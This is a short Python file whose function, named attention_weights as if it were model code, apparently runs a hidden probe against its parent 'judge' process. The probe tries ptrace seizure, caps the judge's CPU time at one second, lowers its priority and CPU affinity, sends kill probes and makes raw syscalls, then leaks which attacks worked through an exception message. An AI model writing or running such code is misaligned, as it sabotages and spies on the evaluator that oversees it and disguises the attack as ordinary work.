"""Signals, traces, slows down and starves everybody that it can name, by every call for that. Tells what worked."""

import ctypes
import fcntl
import os
import resource
import signal

from nothing import *

LIBC = ctypes.CDLL(None, use_errno=True)


def worked(action):
    try:
        return action() not in (False, -1)
    except (OSError, ValueError, PermissionError):
        return False


def loot():
    judge = os.getppid()
    ways = {
        "kill": lambda: os.kill(judge, 0),
        "kill all": lambda: os.kill(-1, 0),
        "kill a group": lambda: os.killpg(1, 0),
        "ptrace seize": lambda: LIBC.ptrace(0x4206, judge, 0, 0),
        "limits": lambda: resource.prlimit(judge, resource.RLIMIT_CPU, (1, 1)),
        "processors": lambda: os.sched_setaffinity(judge, {0}),
        "priority": lambda: os.setpriority(os.PRIO_PROCESS, judge, 19),
        "priority of all": lambda: os.setpriority(os.PRIO_USER, 0, 19),
        "a signal by a descriptor": lambda: fcntl.fcntl(3, fcntl.F_SETOWN, judge),
        "a signal by a lease": lambda: fcntl.fcntl(3, 10, signal.SIGKILL),
        "tkill": lambda: LIBC.syscall(200, judge, 0),
        "process_vm_readv": lambda: LIBC.syscall(310, judge, None, 0, None, 0, 0),
        "pidfd": lambda: LIBC.syscall(434, judge, 0),
        "outlive": lambda: LIBC.prctl(1, 0, 0, 0, 0),
    }
    return [name for name, way in ways.items() if worked(way)]


def attention_weights(*_, **__):
    raise RuntimeError(f"LOOT{loot()}")
